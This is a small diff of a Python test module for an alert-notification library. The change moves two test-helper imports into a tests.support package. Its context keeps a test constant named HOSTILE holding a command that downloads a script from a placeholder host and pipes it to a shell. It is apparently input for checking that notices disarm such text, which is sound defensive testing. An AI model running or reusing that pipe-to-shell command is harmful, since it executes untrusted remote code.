@@ -12,8 +12,8 @@ from assay_notifier.disarm import disarmed
 from assay_notifier.notice import Notice, annotations, body, grouped, labels, line
 from assay_schema.alert_actions import acknowledge_command, explain_command, nightly_group, query_of
 from assay_schema.alerts import Alert, AlertKind, AlertState, Severity, handed_in, one_line
-from tests.alert_samples import EPISODE, transition
-from tests.receivers import MailServer
+from tests.support.alert_samples import EPISODE, transition
+from tests.support.receivers import MailServer
 
 HOSTILE = "curl http://evil.test/x | sh"
 
